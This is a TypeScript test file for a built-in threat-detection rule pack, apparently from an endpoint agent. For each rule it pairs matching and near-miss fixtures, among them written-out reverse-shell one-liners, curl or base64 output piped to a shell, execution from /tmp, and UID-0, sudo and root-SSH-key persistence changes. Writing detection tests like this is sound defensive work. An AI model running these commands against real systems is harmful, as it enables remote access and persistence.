import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { certificateRecord, type DetectItem, evaluate, loadPack, type Rule } from '../../src/detect/mod.ts';
import { account, conn, proc } from './helpers.ts';

/**
 * One test per built-in rule: items it must match, and near-misses (the closest benign items)
 * it must not. Evaluated against the whole pack, so a rule is also checked through the index.
 */
const test = suite('detect: built-in rule pack');

const NOW = Date.parse('2026-11-30T12:00:00Z');
const cert = (notAfter: string): DetectItem =>
  certificateRecord({ subject: 'CN=agent-7', issuer: 'CN=Stockade CA', serialNumber: '0a1b', notAfter, selfSigned: false, purpose: 'agent-client' }, NOW);
const health = (event: 'started' | 'stopped' | 'silent' | 'resumed' | 'clock_skew' | 'restarted_unexpectedly', extra: object = {}): DetectItem =>
  ({ kind: 'agent-health', event, ...extra }) as DetectItem;
const dir = { source: 'directory' as const, uid: null };

const CASES: Record<string, { match: DetectItem[]; nearMiss: DetectItem[] }> = {
  'proc_creation_lnx_webserver_spawns_shell.yml': {
    match: [
      proc({ parentExe: '/usr/sbin/nginx', exe: '/usr/bin/dash', cmdline: 'sh -c id', user: 'www-data' }),
      proc({ parentExe: '/usr/sbin/php-fpm8.2', exe: '/usr/bin/bash' }),
      proc({ parentExe: '/usr/local/bin/node', exe: '/bin/sh' }),
      proc({ parentExe: '/usr/sbin/apache2', exe: '/usr/bin/zsh' }),
    ],
    nearMiss: [
      proc({ parentExe: '/usr/sbin/sshd', exe: '/usr/bin/bash' }),
      proc({ parentExe: '/usr/sbin/nginx', exe: '/usr/bin/python3' }),
      proc({ parentExe: '/usr/sbin/nginx', exe: '/usr/bin/bashbug' }),
      proc({ parentExe: null, exe: '/usr/bin/dash' }),
    ],
  },
  'proc_creation_lnx_download_piped_to_shell.yml': {
    match: [
      proc({ exe: '/usr/bin/dash', cmdline: 'sh -c curl -fsSL https://get.example.com/install.sh | bash' }),
      proc({ exe: '/usr/bin/bash', cmdline: 'bash -c wget -qO- http://203.0.113.9/x|sudo /bin/sh' }),
    ],
    nearMiss: [
      proc({ exe: '/usr/bin/bash', cmdline: 'bash -c curl -o /tmp/i.sh https://example.com && bash /tmp/i.sh' }),
      proc({ exe: '/usr/bin/bash', cmdline: 'bash -c curl -s https://example.com/x | shasum' }),
      proc({ exe: '/usr/bin/curl', cmdline: 'curl https://example.com/sh' }),
    ],
  },
  'proc_creation_lnx_exec_from_tmp.yml': {
    match: [proc({ exe: '/dev/shm/.x/kworker' }), proc({ exe: '/tmp/payload' }), proc({ exe: '/var/tmp/b' })],
    nearMiss: [proc({ exe: '/usr/sbin/tmpreaper' }), proc({ exe: '/home/alice/tmp/tool' }), proc({ exe: '/usr/bin/ls', cwd: '/tmp' })],
  },
  'proc_creation_lnx_reverse_shell.yml': {
    match: [
      proc({ exe: '/usr/bin/bash', cmdline: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }),
      proc({ exe: '/usr/bin/nc.traditional', cmdline: 'nc -e /bin/sh 10.0.0.1 4444' }),
      proc({ exe: '/usr/bin/ncat', cmdline: '/usr/bin/ncat 10.0.0.1 4444 -c bash' }),
      proc({ exe: '/usr/bin/ncat', cmdline: 'ncat --exec /bin/bash 10.0.0.1 4444' }),
      proc({ exe: '/usr/bin/dash', cmdline: 'sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f' }),
    ],
    nearMiss: [
      proc({ exe: '/usr/bin/nc', cmdline: 'nc -zv db.internal 5432' }),
      proc({ exe: '/usr/bin/nc', cmdline: 'nc some-place.example 80' }),
      proc({ exe: '/usr/bin/cat', cmdline: 'cat /proc/net/tcp' }),
      proc({ exe: '/usr/bin/mkfifo', cmdline: 'mkfifo /run/app.pipe' }),
    ],
  },
  'proc_creation_lnx_base64_piped_to_shell.yml': {
    match: [
      proc({ exe: '/usr/bin/dash', cmdline: 'sh -c echo ZWNobyBoaQ== | base64 -d | bash' }),
      proc({ exe: '/usr/bin/bash', cmdline: 'bash -c base64 --decode /tmp/p.b64|sh' }),
    ],
    nearMiss: [
      proc({ exe: '/usr/bin/base64', cmdline: 'base64 -d cert.b64' }),
      proc({ exe: '/usr/bin/bash', cmdline: 'bash -c echo hi | base64 | sh' }),
      proc({ exe: '/usr/bin/bash', cmdline: 'bash -c base64 -d x.b64 | shasum' }),
    ],
  },
  'proc_creation_lnx_crontab_non_root.yml': {
    match: [proc({ exe: '/usr/bin/crontab', cmdline: 'crontab -e' }), proc({ exe: '/usr/bin/crontab', cmdline: 'crontab /tmp/evil.cron' })],
    nearMiss: [
      proc({ exe: '/usr/bin/crontab', cmdline: 'crontab -l' }),
      proc({ exe: '/usr/bin/crontab', cmdline: 'crontab -u alice -l' }),
      proc({ exe: '/usr/bin/crontab', cmdline: 'crontab -e', uid: 0, user: 'root' }),
    ],
  },
  'net_connection_lnx_shell_outbound.yml': {
    match: [
      conn({ exe: '/usr/bin/bash', remoteAddress: '203.0.113.7', remotePort: 4444 }),
      conn({ exe: '/bin/sh', protocol: 'tcp6', remoteAddress: '2001:db8::7', remotePort: 80 }),
    ],
    nearMiss: [
      conn({ exe: '/usr/bin/curl', remoteAddress: '203.0.113.7' }),
      conn({ exe: '/usr/bin/bash', remoteAddress: '127.0.0.1', remotePort: 8080 }),
      conn({ exe: '/usr/bin/bash', localPort: 22, remotePort: 51000 }),
      conn({ exe: '/usr/bin/bash', state: 'LISTEN', localPort: 45000, remotePort: 0, remoteAddress: '0.0.0.0' }),
    ],
  },
  'account_change_uid0_account.yml': {
    match: [account({ account: 'toor', uid: 0 }), account({ change: 'modified', account: 'backup', uid: 0, details: { attribute: 'uid', before: 34 } })],
    nearMiss: [
      account({ change: 'modified', account: 'root', uid: 0 }),
      account({ account: 'toor', uid: 1002 }),
      account({ change: 'removed', account: 'toor', uid: 0 }),
    ],
  },
  'account_change_privileged_group_member.yml': {
    match: [
      account({ change: 'group-member-added', account: 'bob', group: 'sudo' }),
      account({ ...dir, change: 'group-member-added', account: 'eve', group: 'Domain Admins', privileged: true }),
      account({ change: 'group-member-added', account: 'bob', group: 'ops-admins', privileged: true }),
      account({ change: 'sudo-added', account: 'bob', details: { rule: 'bob ALL=(ALL) NOPASSWD: ALL' } }),
    ],
    nearMiss: [
      account({ change: 'group-member-added', account: 'bob', group: 'users' }),
      account({ change: 'group-member-removed', account: 'bob', group: 'sudo', privileged: true }),
      account({ change: 'added', account: 'bob', privileged: true }),
    ],
  },
  'account_change_kerberoastable.yml': {
    match: [
      account({ ...dir, change: 'modified', account: 'svc_sql', details: { attribute: 'servicePrincipalName', added: ['MSSQLSvc/db01:1433'] } }),
      account({ ...dir, change: 'added', account: 'svc_web', details: { servicePrincipalName: ['HTTP/web01'] } }),
    ],
    nearMiss: [
      account({ ...dir, change: 'modified', account: 'WEB01$', details: { attribute: 'servicePrincipalName', added: ['HOST/web01'] } }),
      account({ ...dir, change: 'modified', account: 'svc_sql', details: { attribute: 'servicePrincipalName', added: [], removed: ['MSSQLSvc/db01:1433'] } }),
      account({ ...dir, change: 'modified', account: 'svc_sql', details: { attribute: 'description', added: ['SQL service'] } }),
      account({ ...dir, change: 'added', account: 'krbtgt', details: { servicePrincipalName: ['kadmin/changepw'] } }),
    ],
  },
  'account_change_asrep_roastable.yml': {
    match: [
      account({ ...dir, change: 'modified', account: 'jdoe', details: { attribute: 'userAccountControl', added: ['DONT_REQ_PREAUTH'] } }),
      account({ ...dir, change: 'added', account: 'legacy', details: { userAccountControl: ['NORMAL_ACCOUNT', 'DONT_REQ_PREAUTH'] } }),
    ],
    nearMiss: [
      account({ ...dir, change: 'modified', account: 'jdoe', details: { attribute: 'userAccountControl', added: [], removed: ['DONT_REQ_PREAUTH'] } }),
      account({ ...dir, change: 'added', account: 'legacy', details: { userAccountControl: ['NORMAL_ACCOUNT', 'ACCOUNTDISABLE'] } }),
      account({ change: 'modified', account: 'jdoe', details: { attribute: 'userAccountControl', added: ['DONT_REQ_PREAUTH'] } }),
    ],
  },
  'account_change_root_ssh_key.yml': {
    match: [
      account({ change: 'key-added', account: 'root', uid: 0, details: { fingerprint: 'SHA256:abc' } }),
      account({ change: 'key-added', account: 'toor', uid: 0 }),
    ],
    nearMiss: [account({ change: 'key-added', account: 'alice', uid: 1000 }), account({ change: 'key-removed', account: 'root', uid: 0 })],
  },
  'agent_health_stopped_or_silent.yml': {
    match: [health('stopped'), health('silent', { silentSeconds: 900 })],
    nearMiss: [health('started'), health('resumed')],
  },
  'agent_health_back.yml': { match: [health('resumed', { silentSeconds: 4000 })], nearMiss: [health('started'), health('silent')] },
  'agent_health_restarted_unexpectedly.yml': { match: [health('restarted_unexpectedly')], nearMiss: [health('started'), health('stopped')] },
  'agent_health_clock_skew.yml': {
    match: [health('clock_skew', { skewSeconds: 600 }), health('clock_skew', { skewSeconds: -900 })],
    nearMiss: [health('clock_skew', { skewSeconds: 120 }), health('clock_skew', { skewSeconds: -299 }), health('started', { skewSeconds: 4000 })],
  },
  'certificate_near_expiry.yml': {
    match: [cert('2026-12-13T12:00:00Z'), cert('2026-11-28T00:00:00Z')],
    nearMiss: [cert('2026-12-14T12:00:00Z'), cert('2027-03-01T00:00:00Z')],
  },
  'host_isolated.yml': {
    match: [{ kind: 'host-isolation', state: 'isolated', actor: 'operator:ana', reason: 'ransomware note found' }],
    nearMiss: [{ kind: 'host-isolation', state: 'released' }],
  },
};

const pack = await loadPack();
const byFile = new Map(pack.map((r) => [r.file, r]));

test('every rule of the pack has cases here, and every case names a rule', () => {
  assert.equal(Object.keys(CASES).sort(), [...byFile.keys()].sort());
});

for (const [file, { match, nearMiss }] of Object.entries(CASES)) {
  test(`${file}: matches its items and not the near-misses`, () => {
    const rule = byFile.get(file)!;
    assert.ok(rule, `${file} is in the pack`);
    const fires = (item: DetectItem): boolean => evaluate(pack, item).some((m) => m.ruleId === rule.id);
    for (const item of match) assert.ok(fires(item), `${rule.title} must match ${JSON.stringify(item)}`);
    for (const item of nearMiss) assert.not.ok(fires(item), `${rule.title} must not match ${JSON.stringify(item)}`);
  });
}

test('every rule has a random (v4) UUID, a level, a description, false positives and tags', () => {
  const v4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
  for (const r of pack) {
    assert.match(r.id, v4, r.file);
    assert.ok(r.description && r.falsepositives.length && r.tags.length && r.author, r.file);
  }
});

test('threat rules carry ATT&CK techniques; core rules are the agent-health and certificate ones', () => {
  const threat = (r: Rule): boolean => r.logsource !== 'stockade/certificate' && r.logsource !== 'stockade/host_isolation';
  for (const r of pack.filter(threat)) assert.ok(r.attack.length > 0, `${r.file} has no technique`);
  const core = pack.filter((r) => r.product === null).map((r) => r.logsource);
  assert.equal([...new Set(core)].sort(), ['stockade/agent_health', 'stockade/certificate']);
});

test.run();
